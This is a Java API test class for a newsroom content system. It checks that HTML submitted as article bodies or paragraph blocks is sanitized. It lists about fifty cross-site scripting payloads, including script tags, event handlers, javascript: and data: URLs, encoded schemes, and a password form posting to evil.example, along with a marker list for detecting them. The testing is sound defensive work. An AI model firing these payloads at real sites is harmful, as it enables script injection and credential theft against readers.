package news.newsroom.article.editorial;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.startsWith;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import news.newsroom.staff.StaffRole;
import news.newsroom.staff.StaffUser;
import news.newsroom.support.KnownNewsroom;
import news.newsroom.support.KnownNewsroom.Desk;
import news.newsroom.support.KnownNewsroom.Member;
import news.newsroom.support.Newsdesk;
import news.newsroom.support.TestStaff;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Through the API, end to end: markup an editor (or an attacker with an editor's token) sends, as {@code bodyHtml}
 * or inside a paragraph block, is stored and served without anything that could run in a reader's browser.
 * Each vector is posted between two harmless Arabic paragraphs, then the article is read back as the public
 * reads it.
 */
@QuarkusTest
@KnownNewsroom
class HtmlSanitizingApiTest {

    private static final String ARTICLES = "/api/v1/articles";
    private static final String BEFORE = "فقرة أولى سليمة.";
    private static final String AFTER = "فقرة أخيرة سليمة.";

    /** Case-insensitive markers of markup or addresses that could run script, load foreign content or restyle the page. */
    private static final List<String> DANGEROUS = List.of(
            "<script", "javascript:", "vbscript:", "data:text", "onerror", "onload", "onclick", "onmouseover",
            "onfocus", "srcdoc", "<iframe", "<svg", "<object", "<embed", "<form", "style=", "<meta", "<link", "<base");

    /** Any event-handler attribute, whatever its name (ontoggle, onstart, onanimationstart...). */
    private static final Pattern EVENT_HANDLER = Pattern.compile("<[^>]*\\son[a-z]+\\s*=", Pattern.CASE_INSENSITIVE);

    /** The one iframe the renderer itself writes: a YouTube embed on the privacy-enhanced host. */
    private static final Pattern YOUTUBE_NOCOOKIE_IFRAME = Pattern.compile(
            "<iframe src=\"https://www\\.youtube-nocookie\\.com/embed/[A-Za-z0-9_-]{11}\"[^>]*></iframe>");

    private static final ObjectMapper JSON = new ObjectMapper();

    @Inject
    TestStaff staff;

    @Desk
    Newsdesk desk;
    @Member(StaffRole.EDITOR)
    StaffUser editor;
    @Member(StaffRole.AUTHOR)
    StaffUser author;
    @Member(StaffRole.ADMIN)
    StaffUser admin;
    /** Articles this test has created so far; each gets a title of its own. */
    int created;

    static Stream<String> vectors() {
        return Stream.of(
                // script
                "<script>alert('xss')</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</script>",
                "\"><script>alert(document.cookie)</script>",
                // images and media with handlers
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://media.newsroom.example/a.jpg\" alt=\"x\" onload=\"alert(1)\" style=\"border:0\">",
                "<img src=\"javascript:alert(1)\">",
                "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)>",
                // links
                "<a href=\"javascript:alert(1)\">رابط</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">رابط</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">رابط</a>",
                "<a href=\"&#x6A;avascript&#x3A;alert(1)\">رابط</a>",
                "<a href=\"java\tscript:alert(1)\">رابط</a>",
                "<a href=\"  javascript:alert(1)\">رابط</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">رابط</a>",
                "<a href=\"vbscript:msgbox(1)\">رابط</a>",
                "<a href=\"https://example.com/\" onclick=\"alert(1)\" style=\"color:red\">رابط</a>",
                "<a href=\"https://example.com/\" onfocus=\"alert(1)\" autofocus>رابط</a>",
                // svg and math
                "<svg onload=\"alert(1)\"><circle r=\"10\"/></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                // frames and plugins
                "<iframe src=\"https://evil.example/page\"></iframe>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=\"https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ\" onload=\"alert(1)\"></iframe>",
                "<object data=\"https://evil.example/x.swf\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                // styles
                "<p style=\"background:url(javascript:alert(1))\">نص منسق</p>",
                "<style>body{background:url(\"javascript:alert(1)\")}</style>",
                // handlers on ordinary elements
                "<p onclick=\"alert(1)\">فقرة بنقرة</p>",
                "<div onmouseover=\"alert(1)\">قسم</div>",
                "<body onload=\"alert(1)\">",
                "<details open ontoggle=\"alert(1)\"><summary>ملخص</summary></details>",
                "<marquee onstart=\"alert(1)\">شريط</marquee>",
                // forms
                "<form action=\"https://evil.example/steal\"><input name=\"password\"><button>أرسل</button></form>",
                "<input onfocus=\"alert(1)\" autofocus>",
                "<button onclick=\"alert(1)\">زر</button>",
                // document-level elements
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                // nested and unclosed
                "<div><p>نص<script>alert(1)</script>",
                "<img src=x onerror=alert(1)//",
                "<iframe src=\"https://evil.example/frame\">",
                "<style>",
                "<blockquote onclick=\"alert(1)\">اقتباس<script>alert(1)</script><cite onmouseover=\"alert(1)\">قائل</cite></blockquote>",
                "<ul><li onclick=\"alert(1)\">بند<script>alert(1)</script><iframe src=\"javascript:alert(1)\"></iframe></li></ul>",
                "<h2 onclick=\"alert(1)\">عنوان<svg onload=alert(1)></svg></h2>");
    }

    @Test
    void thereAreAtLeastThirtyDistinctVectors() {
        assertThat(vectors().distinct().count()).isGreaterThanOrEqualTo(30);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("vectors")
    void asBodyHtmlNothingDangerousIsStoredOrServed(String vector) {
        long id = createPublished(bodyHtml("<p>" + BEFORE + "</p>" + vector + "<p>" + AFTER + "</p>"));

        JsonPath article = readAsThePublic(id);
        assertNothingDangerous(article, vector);
        List<String> types = article.getList("blocks.type");
        assertThat(types).as("blocks for %s", vector).isNotEmpty();
        assertThat(article.getString("blocks[0].html")).as("first paragraph for %s", vector).isEqualTo(BEFORE);
        assertThat(article.getString("blocks[-1].html")).as("last paragraph for %s", vector).isEqualTo(AFTER);
        assertThat(article.getString("html")).as("rendered HTML for %s", vector)
                .startsWith("<p>" + BEFORE + "</p>")
                .endsWith("<p>" + AFTER + "</p>");
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("vectors")
    void asAParagraphBlockNothingDangerousIsStoredOrServed(String vector) {
        long id = createPublished(blocks(paragraph(BEFORE), paragraph(vector), paragraph(AFTER)));

        JsonPath article = readAsThePublic(id);
        assertNothingDangerous(article, vector);
        List<String> types = article.getList("blocks.type");
        assertThat(types).as("blocks for %s", vector).allMatch("paragraph"::equals);
        assertThat(article.getString("blocks[0].html")).isEqualTo(BEFORE);
        assertThat(article.getString("blocks[-1].html")).isEqualTo(AFTER);
        assertThat(article.getString("html")).startsWith("<p>" + BEFORE + "</p>").endsWith("<p>" + AFTER + "</p>");
    }

    @Test
    void aYouTubeIframeBecomesAnEmbedRenderedOnTheNoCookieHost() {
        long id = createPublished(bodyHtml("<p>" + BEFORE + "</p>"
                + "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" onload=\"alert(1)\""
                + " allow=\"autoplay\" allowfullscreen></iframe>"
                + "<p>" + AFTER + "</p>"));

        given().when().get(ARTICLES + "/" + id)
                .then().statusCode(200)
                .body("blocks.type", contains("paragraph", "embed", "paragraph"))
                .body("blocks[1].provider", is("youtube"))
                .body("blocks[1].url", is("https://www.youtube.com/watch?v=dQw4w9WgXcQ"))
                .body("html", is("<p>" + BEFORE + "</p>"
                        + "<figure class=\"embed\" data-provider=\"youtube\"><iframe src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ\""
                        + " title=\"YouTube\" loading=\"lazy\" allowfullscreen></iframe></figure>"
                        + "<p>" + AFTER + "</p>"));
        assertNothingDangerous(readAsThePublic(id), "youtube embed");
    }

    @Test
    void safeInlineMarkupSurvives() {
        String safe = "اقرأ <a href=\"https://example.com/report\">التقرير</a> <strong>كاملاً</strong> و<em>بتمعّن</em>";
        long fromHtml = createPublished(bodyHtml("<p>" + safe + "</p>"));
        long fromBlock = createPublished(blocks(paragraph(safe)));
        for (long id : List.of(fromHtml, fromBlock)) {
            given().when().get(ARTICLES + "/" + id)
                    .then().statusCode(200)
                    .body("blocks.html", contains(safe))
                    .body("html", is("<p>" + safe + "</p>"));
        }
    }

    @Test
    void theStaffViewAndTheCreateAnswerAreCleanToo() {
        String vector = "<img src=x onerror=alert(1)><a href=\"javascript:alert(1)\" onclick=\"x\">رابط</a>";
        ObjectNode body = bodyHtml("<p>" + BEFORE + "</p>" + vector + "<p>" + AFTER + "</p>");
        JsonPath createAnswer = new JsonPath(given().auth().oauth2(staff.tokenFor(author)).contentType("application/json")
                .body(withTitle(body).toString())
                .when().post(ARTICLES)
                .then().statusCode(201)
                .contentType(startsWith("application/json"))
                .extract().asString());
        assertNothingDangerous(createAnswer, vector);
        JsonPath staffView = new JsonPath(given().auth().oauth2(staff.tokenFor(author))
                .when().get(ARTICLES + "/" + createAnswer.getLong("id"))
                .then().statusCode(200)
                .header("Cache-Control", is("private, no-store"))
                .extract().asString());
        assertNothingDangerous(staffView, vector);
        assertThat(staffView.getList("blocks.html", String.class)).startsWith(BEFORE).endsWith(AFTER);
        assertThat(staffView.getString("html")).contains("رابط");
    }

    // --- helpers ---

    private static ObjectNode bodyHtml(String html) {
        ObjectNode body = JSON.createObjectNode();
        body.put("bodyHtml", html);
        return body;
    }

    private static ObjectNode blocks(ObjectNode... blocks) {
        ObjectNode body = JSON.createObjectNode();
        ArrayNode list = body.putArray("blocks");
        for (ObjectNode block : blocks) {
            list.add(block);
        }
        return body;
    }

    private static ObjectNode paragraph(String html) {
        return JSON.createObjectNode().put("type", "paragraph").put("html", html);
    }

    private ObjectNode withTitle(ObjectNode body) {
        created++;
        body.put("title", "اختبار التعقيم رقم " + created);
        body.put("sectionSlug", "culture");
        return body;
    }

    /** Creates the article as an imported, already published one, so that it is read back as the public reads it. */
    private long createPublished(ObjectNode body) {
        ObjectNode article = withTitle(body);
        article.putArray("authorSlugs").add("lina-khoury");
        article.put("status", "published");
        article.put("publishedAt", "2025-11-01T08:00:00Z");
        return given().auth().oauth2(staff.tokenFor(editor)).contentType("application/json").body(article.toString())
                .when().post(ARTICLES)
                .then().statusCode(201)
                .extract().jsonPath().getLong("id");
    }

    private static JsonPath readAsThePublic(long id) {
        return new JsonPath(given().when().get(ARTICLES + "/" + id)
                .then().statusCode(200)
                .header("Cache-Control", startsWith("public"))
                .extract().asString());
    }

    private static void assertNothingDangerous(JsonPath article, String vector) {
        String blocks;
        try {
            blocks = JSON.writeValueAsString(article.get("blocks"));
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
        String html = article.getString("html");
        String htmlWithoutOwnEmbeds = YOUTUBE_NOCOOKIE_IFRAME.matcher(html).replaceAll("");
        for (String marker : DANGEROUS) {
            assertThat(blocks.toLowerCase(Locale.ROOT)).as("JSON blocks for %s", vector).doesNotContain(marker);
            assertThat(htmlWithoutOwnEmbeds.toLowerCase(Locale.ROOT)).as("html for %s", vector).doesNotContain(marker);
        }
        assertThat(EVENT_HANDLER.matcher(html).find()).as("an event handler in the html for %s: %s", vector, html).isFalse();
        assertThat(EVENT_HANDLER.matcher(blocks).find()).as("an event handler in the blocks for %s: %s", vector, blocks).isFalse();
    }
}
